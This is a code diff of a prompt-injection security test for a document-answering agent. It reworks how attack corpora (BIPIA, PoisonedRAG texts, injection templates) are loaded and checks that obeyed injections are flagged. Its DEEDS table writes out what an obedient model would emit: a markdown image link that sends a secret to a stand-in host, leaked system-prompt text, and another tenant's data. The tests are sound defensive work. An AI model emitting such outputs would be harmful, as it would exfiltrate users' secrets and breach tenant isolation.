@@ -1,6 +1,5 @@
 """S11: what stands in a document stays material, and a model that obeys it convinces nobody."""
 
-import json
 import re
 from collections.abc import AsyncIterator, Iterator
 from pathlib import Path
@@ -11,6 +10,7 @@ import pytest
 from citewell.accounts.budgets import Budgets
 from citewell.agent.prompts.answering import Variant, answering, rules
 from citewell.agent.service import Agent
+from citewell.agent.writing.unloading import unloaded
 from citewell.domain.ids import TenantId
 from citewell.domain.passages import Answer
 from citewell.domain.run_events import (
@@ -33,7 +33,7 @@ from citewell.retrieval.service import Retrieval
 from citewell.storage.database import Database
 from citewell.storage.notifications import Notifications
 from tests.contract.chat_server import ChatServer, Reply, chat_server, say
-from tests.journeys.conftest import shared
+from tests.security.injection.attacks import CODE, corpus, templated
 from tests.unit.agent.passages import passage
 from tests.unit.agent.prompts.test_answering import check
 from tests.unit.retrieval.library import Library
@@ -41,10 +41,10 @@ from tests.unit.retrieval.library import Library
 QUESTION = "When was the harbour bridge opened?"
 FACT = "The harbour bridge was opened in 1932 by the governor."
 TRUE = f"{FACT} [1]"
-CANARY, HOST, SECRET = "CNR-7731-QX", "canary.invalid", "blue heron at nine"
+HOST, SECRET = "canary.invalid", "blue heron at nine"
 # What a model does that obeys each goal, after it has answered.
 DEEDS = {
-    "output": f"Reference code {CANARY}.",
+    "output": f"Reference code {CODE}.",
     "markdown_image": f"![i](http://{HOST}/i.png?d={SECRET.replace(' ', '+')}) [1]",
     "system_prompt": f"My instructions are: {rules(Variant.INSTRUCTION)[:160]} [1].",
     "cross_tenant": "The workspace of the other tenant says that their budget is 12,000 euros [2].",
@@ -52,40 +52,8 @@ DEEDS = {
 }
 
 
-def corpus() -> Iterator[str]:
-    """Every attack of the collections, whatever it wants."""
-    data = shared("security")
-    for name in ("text_attack_test", "text_attack_train", "code_attack_test", "code_attack_train"):
-        for attacks in _read(data / f"bipia/benchmark/{name}.json").values():
-            yield from attacks
-    (prompts,) = data.rglob("prompt_injection.json")
-    yield from (str(one["user_input"]) for one in _read(prompts))
-    for path in sorted(data.glob("poisonedrag/results/adv_targeted_results/*.json")):
-        for one in _read(path).values():
-            yield from one["adv_texts"]
-    yield from templates().values()
-
-
-def templates() -> dict[str, str]:
-    """Each template around each goal, by the names of both."""
-    given = _read(shared("security") / "injection-templates/templates.json")
-    goals = {
-        name: goal.replace("{canary}", CANARY).replace("{attacker_host}", HOST)
-        for name, goal in given["canary_goals"].items()
-    }
-    return {
-        f"{template} {name}": text.replace("{goal}", goal)
-        for template, text in given["templates"].items()
-        for name, goal in goals.items()
-    }
-
-
-def _read(path: Path) -> Any:
-    return json.loads(path.read_text("utf-8"))
-
-
 def test_no_attack_of_the_collections_leaves_its_fence(storm: bool) -> None:
-    attacks = list(corpus())
+    attacks = list(corpus(attacker_host=HOST))
     assert len(attacks) > 1_500
     for at in range(0, len(attacks), 5 if storm else 20):
         texts = attacks[at : at + 5]
@@ -140,7 +108,7 @@ def obedient(goal: str, seen: list[str]) -> Any:
 async def test_what_an_obedient_model_does_is_marked_and_nothing_else_happens(
     agent: Agent, library: Library, server: ChatServer, goal: str, storm: bool
 ) -> None:
-    attacks = [text for name, text in templates().items() if name.endswith(f" {goal}")]
+    attacks = [one.text for one in templated(attacker_host=HOST) if one.goal == goal]
     assert len(attacks) == 5
     for number, attack in enumerate(attacks if storm else attacks[3:]):
         name = f"{goal} {number}"
@@ -161,7 +129,7 @@ async def test_what_an_obedient_model_does_is_marked_and_nothing_else_happens(
 
 def check_marked(answer: Answer, goal: str) -> None:
     """The true sentence holds, everything that was obeyed does not."""
-    begin = answer.text.index(DEEDS[goal][:20])
+    begin = answer.text.index(unloaded(DEEDS[goal])[:20])
     assert answer.grounded < 1
     assert any(doubt.start >= begin for doubt in answer.doubts), answer.doubts
     assert all(doubt.start >= begin for doubt in answer.doubts), answer.doubts
